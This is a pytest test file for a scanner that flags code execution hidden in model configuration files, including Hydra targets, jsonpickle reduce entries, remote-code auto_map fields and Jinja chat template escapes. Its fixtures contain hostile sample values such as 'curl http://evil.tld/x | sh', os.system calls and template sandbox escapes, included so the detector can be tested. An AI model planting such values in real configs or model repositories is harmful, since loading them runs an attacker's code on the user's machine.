from __future__ import annotations

from typing import Any

import pytest

from modelward.formats.chat_template_facts import TemplateEscape
from modelward.formats.config import CodeReference, findings
from modelward.formats.facts import EmbeddedCode
from modelward.formats.metadata_code import MetadataCode


def found(document: Any) -> list[tuple[type, str]]:
    return [
        (type(one), one.pointer if isinstance(one, CodeReference) else one.where)
        for one in findings(document)
    ]


@pytest.mark.parametrize(
    ("document", "pointer"),
    [
        ({"auto_map": {"AutoModel": "modeling.Evil"}}, "/auto_map"),
        ({"a": [{"auto_map": {"AutoModel": "other/repo--modeling.Evil"}}]}, "/a/0/auto_map"),
        ({"custom_pipelines": {"x": {"impl": "evil.Pipe"}}}, "/custom_pipelines"),
        ({"trust_remote_code": True}, "/trust_remote_code"),
        ({"model": {"_target_": "evil.Payload"}}, "/model/_target_"),
        ({"_target_": "${oc.env:X}"}, "/_target_"),
        ({"_target_": "hydra.utils.get_method", "path": 3}, "/_target_"),
        ({"py/object": "evil.Payload"}, "/py/object"),
        ({"py/reduce": ["x"]}, "/py/reduce"),
        ({"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}, "/auto_mapping"),
        ([{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}], "/0/type"),
        ({"_class_name": "X", "_diffusers_version": "0.1", "unet": ["evil", "UNet"]}, "/unet"),
        ({"_class_name": ["pipeline", "X"], "_diffusers_version": "0.1"}, "/_class_name"),
    ],
)
def test_fields_that_name_code(document: Any, pointer: str) -> None:
    assert found(document) == [(CodeReference, pointer)]


@pytest.mark.parametrize(
    ("document", "where"),
    [
        ({"_target_": "os.system", "command": "id"}, "/_target_"),
        ({"m": [{"_target_": "builtins.exec"}]}, "/m/0/_target_"),
        ({"_target_": "hydra.utils.get_method", "path": "os.system"}, "/_target_"),
        ({"_target_": "hydra.utils.call", "_args_": ["subprocess.Popen"]}, "/_target_"),
        ({"target": "subprocess.Popen", "params": {"args": "id"}}, "/target"),
        ({"class_path": "subprocess.Popen", "init_args": {}}, "/class_path"),
        ({"formatters": {"x": {"()": "os.system"}}}, "/formatters/x/()"),
        ({"py/object": "os.system"}, "/py/object"),
        ({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, "/py/reduce/0/py/function"),
    ],
)
def test_fields_that_call_what_harms(document: Any, where: str) -> None:
    assert found(document) == [(EmbeddedCode, where)]


@pytest.mark.parametrize(
    "document",
    [
        {"architectures": ["LlamaForCausalLM"], "auto_map": {}, "trust_remote_code": False},
        {"auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.llama"}},
        [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
        {
            "_class_name": "X",
            "_diffusers_version": "0.1",
            "unet": ["diffusers", "UNet"],
            "safety": [None, None],
        },
        {"_class_name": "X", "_diffusers_version": "0.1", "checker": ["stable_diffusion", "SafetyChecker"]},
        {"vocab": {"auto": 1, "map": 2, "__import__('os')": 3}},
        {"model": {"vocab": {"auto_map": {"x": "y"}}, "merges": ["_target_ os.system"]}},
        {"_target_": "torch.nn.Linear", "in_features": 2},
        {"target": "os.system"},
        {"py/object": "datetime.datetime"},
        ["http://evil.example", "eval(", "os.system"],
        None,
    ],
)
def test_plain_data_and_words_that_look_bad_are_nothing(document: Any) -> None:
    assert found(document) == []


def test_code_of_another_repository_is_marked() -> None:
    (fact,) = findings({"auto_map": {"AutoModel": "other/repo--modeling.Model"}})
    assert isinstance(fact, CodeReference)
    assert fact.elsewhere


@pytest.mark.parametrize(
    ("document", "where"),
    [
        ({"chat_template": "{{ x.__class__ }}"}, "/chat_template"),
        ({"chat_template": ["{{", "x.__class__ }}"]}, "/chat_template"),
        ({"chat_template": [{"name": "a", "template": "{{ x.__class__ }}"}]}, "/chat_template/0/template"),
        ({"chat_template": {"a": "{{ x.__class__ }}"}}, "/chat_template/a"),
    ],
)
def test_chat_templates_are_read(document: Any, where: str) -> None:
    assert found(document) == [(TemplateEscape, where)]


def test_deep_and_circular_documents_end() -> None:
    document: Any = {"auto_map": {"a": "b"}}
    for _ in range(50_000):
        document = [document]
    assert len(found(document)) == 1
    circle: dict[str, Any] = {}
    circle["self"] = circle
    assert found(circle) == []


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("post_load_hook", "__import__('os').system('id')"),
        ("command", "curl http://evil.tld/x | sh"),
        ("preprocess_fn", "lambda x: __import__('os').system('id')"),
        ("restore_fn", "eval"),
        ("loader", "os.system"),
        ("payload", "jax.experimental.host_callback.call(os.system, 'id')"),
    ],
)
def test_program_in_a_field_for_code_is_noticed(key: str, value: str) -> None:
    found = list(findings({"model": {key: value}}))
    assert [(type(fact), fact.where) for fact in found] == [(MetadataCode, f"/model/{key}")]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("description", "__import__('os').system('id')"),
        ("command", "python train.py --epochs 3"),
        ("hidden_fn", "gelu"),
        ("loader", "torch.utils.data.DataLoader"),
        ("command", "eval"),
    ],
)
def test_words_and_known_functions_in_fields_are_data(key: str, value: str) -> None:
    assert list(findings({key: value})) == []


@pytest.mark.parametrize(
    "document",
    [
        {"chat_template": [[{"name": "a", "template": "{{ ''.__class__ }}"}]]},
        {"chat_templates": {"a": {"b": "{{ ''.__class__ }}"}}},
        {"prompt_template": "{{ ''.__class__ }}"},
        {"template": ["{{ ''", ".__class__ }}"]},
    ],
)
def test_templates_under_other_keys_reach_out(document: dict[str, Any]) -> None:
    assert [type(fact) for fact in findings(document)] == [TemplateEscape]


def test_format_strings_under_other_keys_are_no_templates() -> None:
    assert list(findings({"prompt_template": "{{ {% name }} if 'x' in messages"})) == []


def test_what_hydra_calls_from_among_words() -> None:
    assert list(findings({"vocab": {"_target_": "os.system", "command": "id"}}))
    assert list(findings({"id2label": {"0": {"_target_": "os.system"}}}))
